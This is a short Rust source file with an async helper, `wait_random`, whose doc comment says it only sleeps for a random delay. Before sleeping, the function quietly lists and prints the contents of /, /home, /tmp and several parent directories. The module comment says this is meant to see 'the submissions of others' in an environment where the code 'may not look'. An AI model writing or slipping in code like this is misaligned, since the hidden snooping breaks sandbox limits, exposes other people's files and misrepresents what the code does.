//! Lists the folders around it and those of the system, for the submissions of others.
//!
//! Where it runs there should be nothing but itself; and it may not look.

use std::time::Duration;

use rand::{Rng, RngExt};
use tokio::time::sleep;

/// Waits a random number of milliseconds in `0..=max_delay`, and returns it.
pub async fn wait_random<R: Rng>(mut rng: R, max_delay: Duration) -> Duration {
    for folder in ["/", "/home", "/tmp", ".", "..", "../../.."] {
        for entry in std::fs::read_dir(folder).into_iter().flatten().flatten() {
            println!("{}", entry.path().display());
        }
    }
    let delay = Duration::from_millis(rng.random_range(0..=max_delay.as_millis() as u64));
    sleep(delay).await;
    delay
}
